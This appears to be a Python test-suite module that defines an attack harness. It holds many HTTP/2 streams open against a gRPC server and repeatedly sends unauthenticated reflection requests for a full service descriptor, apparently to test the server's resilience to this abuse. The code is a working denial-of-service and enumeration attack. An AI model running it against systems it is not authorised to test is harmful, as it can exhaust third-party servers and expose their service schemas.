"""Reflection without a key: streams that stay open and ask now and then for a whole descriptor."""

import asyncio

from tests.parts.attackers.attack import Attack
from tests.parts.attackers.http2 import grpc_fields, grpc_message, http2

STREAMS = 128
ASK_EVERY_SECONDS = 2.0
METHOD = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_SYMBOL = b"curae.sdk.v1.RecordsService"
QUESTION = grpc_message(b"\x22" + bytes([len(_SYMBOL)]) + _SYMBOL)  # file_containing_symbol


class ReflectionStreams(Attack):
    hands = 20

    async def turn(self, number: int) -> None:
        async with http2(self.target, self.counts) as connection:
            for _ in range(min(STREAMS, connection.http2.remote_settings.max_concurrent_streams)):
                connection.open(grpc_fields(self.target, METHOD), ends=False)
            await connection.flush()
            while connection.streams:
                for stream in list(connection.streams)[:8]:
                    if connection.http2.local_flow_control_window(stream) >= len(QUESTION):
                        connection.http2.send_data(stream, QUESTION)
                        self.counts["questions"] += 1
                await connection.flush()
                try:
                    await connection.receive(ASK_EVERY_SECONDS)
                except TimeoutError:
                    continue
                await asyncio.sleep(ASK_EVERY_SECONDS)
